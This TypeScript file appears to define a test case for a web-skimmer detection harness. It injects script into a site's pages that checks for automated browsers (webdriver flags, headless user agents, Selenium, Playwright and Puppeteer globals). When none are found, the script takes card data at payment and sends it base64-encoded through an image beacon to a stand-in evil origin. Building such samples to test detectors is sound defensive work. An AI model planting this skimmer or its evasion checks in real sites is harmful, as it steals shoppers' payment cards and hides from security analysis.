import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'evade-webdriver',
  why: 'Asks whether a program drives the browser: webdriver flag, headless user agent, missing languages or plug-ins, automation names in the window.',
  covers: ['hard: hides from analysts', 'evade: detectors'],
  base: 'direct',
  install: (site) =>
    site.append(js`(function () {
  var n = navigator, robot = n.webdriver || /Headless|Phantom|bot/i.test(n.userAgent) || !n.languages.length || !window.chrome;
  if (n.userAgentData && n.userAgentData.brands.some(function (b) { return /Headless/.test(b.brand); })) robot = true;
  if (Object.getOwnPropertyNames(window).concat(Object.getOwnPropertyNames(document)).some(function (k) { return /^(\$?cdc_|__playwright|__pw|_selenium|callPhantom|__puppeteer)/.test(k); })) robot = true;
  if (robot) return;
  ${onPay(js`new Image().src = '${site.origins.evil}/h.gif?d=' + encodeURIComponent(btoa(card()));`)}
})();`),
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
